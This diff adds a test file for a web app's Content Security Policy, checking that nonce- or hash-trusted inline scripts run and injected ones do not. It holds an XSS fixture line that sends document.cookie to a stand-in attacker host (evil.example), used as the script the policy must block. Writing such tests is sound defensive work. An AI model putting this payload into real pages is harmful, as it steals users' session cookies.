@@ -1,0 +1,87 @@
+/** A page's own scripts are named to the browser, by nonce or by hash; a script that got in otherwise is not. */
+import { createHash } from 'node:crypto';
+import { describe, expect, test } from 'vitest';
+import { holdScriptsBack, trustByHash } from './inline-scripts.server';
+import { COLOUR_MODE, LATE_SCRIPTS } from './late-scripts';
+import { contentSecurityPolicy, sha256 } from './policy.server';
+
+const NONCE = 'q83vASNFZ4mrze8BI0VniQ==';
+const MODULE = 'import * as route0 from "/assets/root.js";import("/assets/entry.js");';
+const INJECTED = 'fetch("https://evil.example/?" + document.cookie)';
+
+/** As Remix renders it. */
+const page = [
+  '<html><head><link rel="modulepreload" href="/assets/root.js"/>',
+  `<script nonce="${NONCE}">${COLOUR_MODE}</script>`,
+  '<script type="application/ld+json">{"@type":"NGO"}</script></head><body>',
+  `<script>${INJECTED}</script><script nonce="guessed">${INJECTED}</script>`,
+  `<script nonce="${NONCE}">window.__remixContext = {};</script>`,
+  `<script nonce="${NONCE}" type="module" async="">${MODULE}</script>`,
+  `<script nonce="${NONCE}">${LATE_SCRIPTS}</script></body></html>`,
+].join('');
+
+/** What a browser does with `script-src`: of each inline script, whether it runs. */
+function runs(html: string, policy: string) {
+  const [, sources = ''] = /script-src ([^;]*)/.exec(policy) ?? [];
+  expect(sources).not.toMatch(/unsafe|\*/);
+  return [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)]
+    .filter(([, attributes = '']) => !attributes.includes('ld+json'))
+    .map(([, attributes = '', text = '']) => {
+      const nonce = /nonce="([^"]*)"/.exec(attributes)?.[1];
+      const hash = createHash('sha256').update(text).digest('base64');
+      const allowed =
+        (nonce !== undefined && sources.includes(`'nonce-${nonce}'`)) ||
+        sources.includes(`'sha256-${hash}'`);
+      return { text, allowed };
+    });
+}
+
+describe.each([
+  ['nonce', { html: page, trust: { kind: 'nonce', nonce: NONCE } as const }],
+  ['hash', trustByHash(page, NONCE)],
+])('by %s', (_, { html, trust }) => {
+  const policy = contentSecurityPolicy(trust, sha256('body{}'));
+
+  test('every script of the page runs, and no injected one', () => {
+    const scripts = runs(html, policy);
+    expect(scripts).toHaveLength(6);
+    for (const { text, allowed } of scripts) expect(allowed, text).toBe(text !== INJECTED);
+  });
+
+  test('the late module runs as its own text', () => {
+    // It is taken from the held-back script, so it has that one's nonce or hash.
+    expect(runs(holdScriptsBack(html), policy).find(({ text }) => text === MODULE)?.allowed).toBe(
+      true,
+    );
+  });
+});
+
+test('a kept page has no trace of the nonce that rendered it', () => {
+  const { html } = trustByHash(page, NONCE);
+  expect(html).not.toContain(NONCE);
+  expect(html).toContain('nonce="guessed"');
+});
+
+test('holding back changes attributes only: no element comes or goes', () => {
+  const held = holdScriptsBack(page);
+  expect(held.match(/<\w+/g)).toEqual(page.match(/<\w+/g));
+  expect(held).not.toContain('type="module"');
+  expect(held).not.toContain('<link rel="modulepreload"');
+});
+
+test('the small scripts cannot end their own element', () => {
+  for (const script of [COLOUR_MODE, LATE_SCRIPTS]) expect(script).not.toMatch(/<\/|<!--/);
+});
+
+test('a page is nobody’s frame, takes nothing from elsewhere, and sends forms only here', () => {
+  const policy = contentSecurityPolicy({ kind: 'nonce', nonce: NONCE }, sha256('x'));
+  for (const directive of [
+    `default-src 'none'`,
+    `base-uri 'none'`,
+    `frame-ancestors 'none'`,
+    `form-action 'self'`,
+    `img-src 'self' data:`,
+  ])
+    expect(policy).toContain(directive);
+  expect(policy).not.toContain('unsafe');
+});
